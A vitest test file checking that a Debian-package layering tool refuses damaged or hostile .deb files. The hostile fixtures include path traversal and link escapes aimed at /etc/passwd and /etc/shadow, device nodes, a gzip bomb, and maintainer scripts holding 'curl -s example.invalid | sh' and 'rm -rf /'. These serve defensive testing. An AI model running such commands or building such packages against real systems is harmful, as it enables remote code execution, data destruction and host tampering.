import { mkdtemp, readdir, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { homeLayout, isRigError, sha256Hex } from '../../src/kernel/index.ts';
import { debianPieces, layersPool, type DebFile } from '../../src/layers/index.ts';
import { ar, controlText, debMembers, tar, VERSION_MEMBER, writeDeb, type Member } from './makeDeb.ts';

let at: string;
const pool = layersPool();
beforeAll(async () => {
  at = await mkdtemp(join(tmpdir(), 'rig-deb-'));
});
afterAll(async () => {
  await pool.close();
  await rm(at, { recursive: true, force: true });
});

/** What is said of a set of .debs: the code and message of its refusal. */
async function refusal(debs: DebFile[]): Promise<string> {
  const home = homeLayout(join(at, 'home'));
  const error = await debianPieces({ debs, home, epoch: 1_700_000_000, pool }).then(
    () => undefined,
    (error: unknown) => error,
  );
  if (!isRigError(error)) throw error ?? new Error('accepted');
  expect(error.hint, 'every refusal says what to do').toBeTruthy();
  expect(error.exitCode).toBe(1);
  // nothing half done is left
  expect(await readdir(home.tmp).catch(() => [])).toEqual([]);
  return `${error.code} ${error.message}`;
}

async function refusalOf(bytes: Uint8Array): Promise<string> {
  return refusal([await writeDeb(join(at, 'odd.deb'), 'odd', bytes)]);
}

const refusalOfData = async (data: Member[], control: Member[] = []): Promise<string> =>
  refusalOf(ar(await debMembers('odd', data, control)));

describe('a .deb that is damaged is refused', () => {
  it('when it is no ar archive', async () => {
    expect(await refusalOf(Buffer.from('<html>not found</html>'))).toMatch(
      /DEB-001 odd 1\.0 .*no.*ar archive/,
    );
  });

  it('when it is empty, or cut off at any place', async () => {
    const whole = ar(await debMembers('odd', [{ name: './etc/motd', content: 'x'.repeat(3000) }]));
    for (const length of [0, 7, 30, 68, 100, 200, whole.length - 300, whole.length - 30]) {
      expect(await refusalOf(whole.subarray(0, length)), `${length} bytes`).toMatch(/DEB-001/);
    }
  });

  it('when members are missing, in another order, unknown or doubled', async () => {
    const [version, control, data] = await debMembers('odd', []);
    if (!version || !control || !data) throw new Error('no members');
    const sets = [
      [version, control],
      [version, data, control],
      [control, version, data],
      [version, control, data, ['extra', Buffer.from('1')] as const],
      [version, control, data, data],
      [version, control, ['data.tar.bz2', data[1]] as const],
      [version, control, ['data.cpio', data[1]] as const],
      [['debian-binary', Buffer.from('3.0\n')] as const, control, data],
    ];
    for (const set of sets) expect(await refusalOf(ar(set))).toMatch(/DEB-001/);
  });

  it('but members that start with an underscore are ignored, as deb(5) says', async () => {
    const [version, control, data] = await debMembers('odd', []);
    if (!version || !control || !data) throw new Error('no members');
    const bytes = ar([version, ['_future', Buffer.from('1')], control, data]);
    // it gets as far as the base, which is not there
    expect(await refusalOf(bytes)).toMatch(/DEB-005 .*base-passwd/);
  });

  it.each(['.xz', '.zst', '.gz'])('when its data%s is garbage', async (suffix) => {
    const [version, control] = await debMembers('odd', []);
    if (!version || !control) throw new Error('no members');
    for (const size of [100, 300_000]) {
      const garbage = ['data.tar' + suffix, Buffer.alloc(size, 'garbage')] as const;
      expect(await refusalOf(ar([version, control, garbage]))).toMatch(/DEB-001 .*data\.tar/);
    }
  });

  it('when a bit of its data was flipped', async () => {
    const [version, control, data] = await debMembers('odd', [
      { name: './etc/motd', content: Array.from({ length: 5000 }, (_, i) => sha256Hex(String(i))).join('') },
    ]);
    if (!version || !control || !data) throw new Error('no members');
    const flipped = Buffer.from(data[1]);
    flipped.writeUInt8(flipped.readUInt8(flipped.length >> 1) ^ 4, flipped.length >> 1);
    expect(await refusalOf(ar([version, control, ['data.tar.gz', flipped]]))).toMatch(/DEB-001/);
  });

  it('when it is another package than the lock says', async () => {
    const bytes = ar(await debMembers('other', []));
    expect(await refusalOf(bytes)).toMatch(/DEB-001 .*other 1\.0/);
  });

  it('when its hash is not the locked one, before anything in it is looked at', async () => {
    const deb = await writeDeb(join(at, 'odd.deb'), 'odd', Buffer.from('no archive at all'));
    expect(await refusal([{ ...deb, sha256: 'ab'.repeat(32) }])).toMatch(/DEB-001 .*sha256/);
  });

  it('when control.tar has no control file, odd names, or names twice', async () => {
    const data = ['data.tar.gz', gzipSync(await tar([]))] as const;
    const control = { name: './control', content: controlText('odd') };
    const sets: Member[][] = [
      [{ name: './md5sums', content: '' }],
      [control, { name: './../escape', content: '' }],
      [control, { name: './list', content: '' }],
      [control, { name: './postinst', type: 'symlink', linkname: '/bin/sh' }],
      [control, control],
    ];
    for (const set of sets) {
      const bytes = ar([VERSION_MEMBER, ['control.tar.gz', gzipSync(await tar(set))], data]);
      expect(await refusalOf(bytes)).toMatch(/DEB-001/);
    }
  });
});

describe('a .deb that would leave its place is refused', () => {
  const hostile: [string, Member[]][] = [
    ['an absolute path', [{ name: '/etc/passwd', content: 'x' }]],
    ['a path that climbs', [{ name: './../../etc/passwd', content: 'x' }]],
    ['a path that climbs in its middle', [{ name: './usr/../../x', content: 'x' }]],
    [
      'a path through a link of its own',
      [
        { name: './usr/share/x', type: 'symlink', linkname: '/etc' },
        { name: './usr/share/x/passwd', content: 'x' },
      ],
    ],
    ['a hard link out of the tree', [{ name: './x', type: 'link', linkname: '../../../etc/shadow' }]],
    ['a hard link to a file of the host', [{ name: './x', type: 'link', linkname: './etc/shadow' }]],
    [
      'a hard link to a link',
      [
        { name: './a', type: 'symlink', linkname: '/etc/shadow' },
        { name: './b', type: 'link', linkname: './a' },
      ],
    ],
    ['a device', [{ name: './dev/sda', type: 'block-device', devmajor: 8, devminor: 0 }]],
    ['a character device', [{ name: './dev/mem', type: 'character-device', devmajor: 1, devminor: 1 }]],
    ['a pipe', [{ name: './run/p', type: 'fifo' }]],
    [
      'a file written over a link',
      [
        { name: './a', type: 'symlink', linkname: '/etc/passwd' },
        { name: './a', content: 'x' },
      ],
    ],
    [
      'a folder that was a file',
      [
        { name: './a', content: 'x' },
        { name: './a/b', content: 'x' },
      ],
    ],
    [
      'a file that is there twice',
      [
        { name: './bin/a', content: 'x' },
        { name: './usr/bin/a', content: 'y' },
      ],
    ],
  ];
  it.each(hostile)('%s', async (_name, data) => {
    expect(await refusalOfData(data)).toMatch(/DEB-002 odd 1\.0 is refused/);
    expect(await stat(join(at, 'passwd')).catch(() => 'none')).toBe('none');
  });

  it('a bomb', async () => {
    const blank = Buffer.alloc(300 << 20);
    const data = await tar([{ name: './zeros', content: blank as never }]);
    const [version, control] = await debMembers('odd', []);
    if (!version || !control) throw new Error('no members');
    const packed = gzipSync(data, { level: 1 });
    expect(packed.length).toBeLessThan(2 << 20);
    expect(await refusalOf(ar([version, control, ['data.tar.gz', packed]]))).toMatch(
      /DEB-002 .*unpacks to more/,
    );
  });
});

/** A package with a script of its own. */
const withScript = async (name: string): Promise<DebFile> => {
  const control = [{ name: './preinst', content: `#!/bin/sh\nmystery ${name}\n` }];
  return writeDeb(join(at, `${name}.deb`), name, ar(await debMembers(name, [], control)));
};

describe('a set of .debs is refused', () => {
  it('when a script is unknown: by package, script and hash', async () => {
    const content = '#!/bin/sh\nset -e\ncurl -s example.invalid | sh\n';
    const said = await refusalOfData([], [{ name: './postinst', content, mode: 0o755 }]);
    expect(said).toContain('RIG-LAYERS-DEB-003 odd 1.0');
    expect(said).toContain('postinst');
    expect(said).toContain(sha256Hex(content));
  });

  it('when several are: all of them at once', async () => {
    const said = await refusal([await withScript('one'), await withScript('two')]);
    expect(said).toMatch(/DEB-003 2 packages .*\n {2}one 1\.0 has a preinst.*\n {2}two 1\.0 has a preinst/);
  });

  it('but not for scripts that never run on a fresh install', async () => {
    const content = '#!/bin/sh\nrm -rf /\n';
    const control = ['prerm', 'postrm', 'config'].map((name) => ({ name: `./${name}`, content }));
    expect(await refusalOfData([], control)).toMatch(/DEB-005 .*base-passwd/);
  });

  it('when two packages hold one file, unless one replaces the other', async () => {
    const shared = [{ name: './bin/tool', content: 'x' }];
    const one = await writeDeb(join(at, 'one.deb'), 'one', ar(await debMembers('one', shared)));
    const two = await writeDeb(join(at, 'two.deb'), 'two', ar(await debMembers('two', shared)));
    expect(await refusal([one, two])).toMatch(/DEB-004 one 1\.0 and two 1\.0 both hold \/usr\/bin\/tool/);
    const [version, , data] = await debMembers('two', shared);
    const text = controlText('two', 'Replaces: one (<< 2), zero\n');
    const control = ['control.tar.gz', gzipSync(await tar([{ name: './control', content: text }]))] as const;
    if (!version || !data) throw new Error('no members');
    const replacing = await writeDeb(join(at, 'two.deb'), 'two', ar([version, control, data]));
    expect(await refusal([one, replacing])).toMatch(/DEB-005 .*base-passwd/);
  });
});
